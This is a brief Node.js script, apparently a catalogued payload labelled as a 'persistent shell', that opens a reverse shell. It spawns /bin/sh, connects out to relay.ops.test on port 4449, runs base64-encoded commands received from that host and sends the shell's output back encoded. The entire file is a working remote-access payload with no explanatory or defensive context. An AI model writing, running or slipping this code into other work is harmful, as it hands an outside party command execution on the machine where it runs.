// class: shell; possible: low medium; style: base64 lines to one persistent shell
const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', [], { stdio: ['pipe', 'pipe', 'pipe'] });
const c = net.connect(4449, 'relay.ops.test');
let rest = '';
c.on('data', d => {
  const lines = (rest + d).split('\n');
  rest = lines.pop();
  for (const l of lines) sh.stdin.write(Buffer.from(l, 'base64'));
});
const back = d => c.write(Buffer.from(d).toString('base64') + '\n');
sh.stdout.on('data', back);
sh.stderr.on('data', back);
sh.on('exit', () => { c.end(); process.exit(0); });
c.on('close', () => { sh.kill(); process.exit(0); });
